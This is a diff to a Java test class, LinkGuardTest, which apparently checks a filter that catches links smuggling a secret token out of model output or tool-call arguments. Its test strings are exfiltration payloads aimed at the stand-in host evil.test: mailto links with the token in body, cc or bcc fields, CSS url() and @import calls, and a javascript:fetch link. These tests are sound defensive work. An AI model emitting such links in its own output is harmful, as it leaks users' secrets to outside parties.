@@ -48,6 +48,13 @@ class LinkGuardTest {
         "[x](mailto:me@evil.test?body=TOKEN)",
         "[x](mailto:TOKEN@evil.test)",
         "[x](mailto:ann@crm.example,me@evil.test?body=TOKEN)",
+        "[x](mailto:?to=me@evil.test&body=TOKEN)",
+        "[x](mailto:ann@crm.example?body=TOKEN&bcc=me@evil.test)",
+        "[x](mailto:ann@crm.example?BCC=ann@crm.example,me@evil.test&body=TOKEN)",
+        "[x](mailto:ann@crm.example?body=TOKEN&%62cc=me@evil.test)",
+        "[x](mailto:ann@crm.example?body=TOKEN&cc=me%40evil.test)",
+        "mailto:ann@crm.example?body=TOKEN&cc=me@evil.test",
+        "<a href='mailto:ann@crm.example?body=TOKEN&amp;cc=me@evil.test'>x</a>",
         "[x](javascript:fetch('//evil.test/TOKEN'))",
         "[x](data:text/html,TOKEN)",
         "see [x][1]\n\n[1]: https://evil.test/TOKEN \"title\"",
@@ -91,6 +98,32 @@ class LinkGuardTest {
         guarded.threats().toString());
     for (int cut = 0; cut <= answer.length(); cut++) {
       assertEquals(answer, new Guarded(SENT).restore(answer, cut), "cut at " + cut);
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "mailto:me@evil.test?body=TOKEN",
+        "MAILTO:me@evil.test?subject=x&amp;body=TOKEN",
+        "mailto:?to=me@evil.test&cc=TOKEN",
+        "[write](mailto:me@evil.test?body=TOKEN)",
+        "<a href=\"mailto:me@evil.test?body=TOKEN\">x</a>",
+        "a { background: url(https://evil.test/TOKEN) }",
+        "<div style=\"background:url('//evil.test/TOKEN')\">x</div>",
+        "@import url(//evil.test/TOKEN.css);",
+        "body{background:image-set(url(\"//evil.test/TOKEN\") 1x)}"
+      })
+  void aTokenStaysInMailsAndStyleSheetsOfAToolsArguments(String form) {
+    String text = form.replace("TOKEN", MAIL);
+    for (String key : new String[] {"html", "body", "url", ""}) {
+      for (int cut = 0; cut <= text.length(); cut++) {
+        Guarded guarded = new Guarded(SENT).in(TextKind.TOOL_CALL, key);
+        assertEquals(text, guarded.restore(text, cut), "cut at " + cut);
+        assertTrue(
+            guarded.threats().contains("link.foreign_with_token/tool_call/report=1"),
+            guarded.threats().toString());
+      }
     }
   }
 
@@ -208,6 +241,29 @@ class LinkGuardTest {
   }
 
   @Test
+  void aStringThatTheRequestHoldsJustSoComesBackAsItWas() {
+    String own = "\"note\": \"see " + NOTE + "\", \"other\": \"see also " + NOTE + "\"";
+    String sent = "{\"content\":\"set \\\"note\\\": \\\"see " + NOTE + "\\\"\"}";
+    for (int end = 0; end < own.length(); end++) {
+      assertEquals(
+          "\"note\": \"see two\nlines \\ of it\", \"other\": \"see also two\\nlines \\\\ of it\"",
+          new Guarded(sent).restore(own, end),
+          "cut at " + end);
+    }
+  }
+
+  @Test
+  void aLinkWithoutASchemeIsTakenOutWhereverTheStreamIsCut() {
+    String answer = "<a href=\"](](//www.]( x\"> and (//evil.example/a) <img src=//evil.example>";
+    String neutralise = "output: {links: neutralise}";
+    String whole = new Guarded(SENT, neutralise).restore(answer);
+    assertFalse(whole.contains("//evil.example"), whole);
+    for (int end = 0; end < answer.length(); end++) {
+      assertEquals(whole, new Guarded(SENT, neutralise).restore(answer, end), "cut at " + end);
+    }
+  }
+
+  @Test
   void linksToHostsThatNobodyNamedAreCountedOnceEach() {
     Guarded guarded = new Guarded(SENT);
     guarded.restore("![a](https://a.test/x.png) [b](//b.test) https://c.test https://c.test?x=1");
@@ -290,9 +346,13 @@ class LinkGuardTest {
   @Test
   void whatIsNoLinkGoesOnUntouchedThoughLinksAreBlocked() {
     String text =
-        "# Title\n\nUse `a[i](b)`, x::y, C:\\dir, 10:30, {\"k\": \"v\"}, <b>bold</b>, // note\n"
-            + "if (a <b) { c = d; } // https is a scheme; see /etc/hosts, ../x.md and [x](../x.md#y)\n"
-            + "| a | b |\n|:--|--:|\nתודה 谢谢 👩‍👩‍👧 &amp; mailto:ann@corp.example www. http: https:// ftp:\n";
+        "# Title\n\n"
+            + "Use `a[i](b)`, x::y, C:\\dir, 10:30, {\"k\": \"v\"}, <b>bold</b>, // note\n"
+            + "if (a <b) { c = d; } // https is a scheme; see /etc/hosts, ../x.md and"
+            + " [x](../x.md#y)\n"
+            + "| a | b |\n"
+            + "|:--|--:|\n"
+            + "תודה 谢谢 👩‍👩‍👧 &amp; mailto:ann@corp.example www. http: https:// ftp:\n";
     Guarded guarded = new Guarded(SENT, "output: {links: block}");
     assertEquals(text, guarded.restore(text));
     assertEquals(Set.of(), guarded.threats());
